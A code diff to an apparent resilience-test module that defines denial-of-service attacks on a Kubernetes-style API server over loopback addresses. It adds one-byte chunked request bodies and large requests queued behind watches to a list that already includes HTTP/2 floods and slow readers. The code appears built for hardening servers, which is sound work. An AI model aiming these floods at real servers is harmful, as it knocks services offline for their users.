@@ -1,6 +1,15 @@
 /** What an attacker does, attack by attack: what was found, floods, and floods of HTTP/2 by their CVE. */
 import { byHand } from './frame-floods.ts'
-import { type Attack, handshakes, http2Flood, http2Once, type Means, silentConnections, slowReaders } from './means.ts'
+import {
+  type Attack,
+  handshakes,
+  http2Flood,
+  http2Once,
+  type Means,
+  silentConnections,
+  slowReaders,
+  writers,
+} from './means.ts'
 
 const configMaps = '/api/v1/namespaces/attacker/configmaps'
 const secrets = '/api/v1/namespaces/attacker/secrets'
@@ -92,6 +101,24 @@ async function mixture(means: Means): Promise<void> {
     (from) => http2Flood(from, 2, 2, () => post(dryRun, quoted, yaml)),
   ]
   await Promise.all(parts.map((part, i) => part({ ...means, localAddress: `127.0.1.${i + 1}` })))
+}
+
+const line = (method: string, path: string, headers = ''): string =>
+  `${method} ${path} HTTP/1.1\r\nhost: x\r\n${headers}\r\n`
+
+/** A body in chunks of one byte, as long as it is taken. */
+function* crumbs(): Generator<string> {
+  yield line('POST', configMaps, 'content-type: application/json\r\ntransfer-encoding: chunked\r\n')
+  for (let i = 0; i < 500; i++) yield '1\r\n{\r\n'.repeat(5000)
+}
+
+/** What can't be answered before a watch ends. */
+function* behindWatch(): Generator<string> {
+  yield line('GET', `${configMaps}?watch=1`)
+  for (let i = 0; i < 15; i++) {
+    yield line('GET', configMaps, `x-large: ${'x'.repeat(60_000)}\r\n`)
+    yield `${line('POST', configMaps, 'content-length: 60000\r\n')}${'x'.repeat(60_000)}`
+  }
 }
 
 const future = 'resourceVersion=9007199254740991&resourceVersionMatch=NotOlderThan'
@@ -191,6 +218,8 @@ export const attacks: readonly Attack[] = [
       return http2Flood(means, 5, 2, () => post(dryRun, body, { 'content-type': 'application/yaml' }))
     },
   },
+  { name: '10 bodies in pieces of one byte', run: (means) => writers(means, 10, crumbs) },
+  { name: '300 watches with 30 requests behind each', run: (means) => writers(means, 300, behindWatch) },
   ...byHand,
   { name: 'a mixture of attacks, from nine addresses', run: mixture },
 ]
